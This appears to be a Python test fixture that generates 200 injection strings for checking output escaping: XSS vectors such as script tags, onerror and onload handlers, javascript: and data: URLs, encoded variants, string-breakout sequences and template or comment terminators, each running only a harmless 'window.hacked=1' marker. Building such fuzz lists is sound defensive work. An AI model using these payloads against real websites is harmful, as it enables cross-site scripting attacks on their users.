"""Two hundred texts that try to leave the place they stand in: markup, scripts, comments, templates, encodings, escapes."""

RUN = "window.hacked=1"

CORES = [
    f"</script><script>{RUN}</script>", f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<!--<script>{RUN}//-->",
    f"<svg><script>{RUN}</script></svg>", f"<iframe srcdoc='<script>parent.{RUN}</script>'>", f"<a href=javascript:{RUN}>x</a>", f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"<body onload={RUN}>", f"<details open ontoggle={RUN}>", f"<style>@import 'x';*{{x:expression({RUN})}}</style>",
    f"<base href='https://example.invalid/'><script src=x></script>", f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">",
    f"<object data='data:text/html,<script>{RUN}</script>'>", f"<math><mtext></mtext><script>{RUN}</script></math>", f"<template><script>{RUN}</script></template>",
    f"<input autofocus onfocus={RUN}>", f"<form action=javascript:{RUN}><button>x</button></form>", f"\"];{RUN};//", f"'];{RUN};//", f"`;{RUN};`", f"${{{RUN}}}",
    f"\\\"];{RUN};//", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"\\x3Cscript>{RUN}\\x3C/script>", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;", f"%3Cscript%3E{RUN}%3C/script%3E", f"\u2028{RUN}\u2029", f"<\u2028script>{RUN}</script>", "{{css}}", "{{script}}", "{{messages}}",
    "{{custom_script}}", "]]>", "-->", "--!>", "<!--", "<![CDATA[", "$&$`$'", "\\", "\\\\", "\"", "'", "</style>", "</title>", "</textarea>", "</noscript>",
]
WRAPS = ["{}", "\"'>{}", "</SCRIPT ><{}", "a\u202e{}\ufeff\u0085\u00a0"]
PAYLOADS = [f"p{i * len(CORES) + j:03} " + wrap.replace("{}", core) for i, wrap in enumerate(WRAPS) for j, core in enumerate(CORES)]
assert len(PAYLOADS) == len(set(PAYLOADS)) == 200
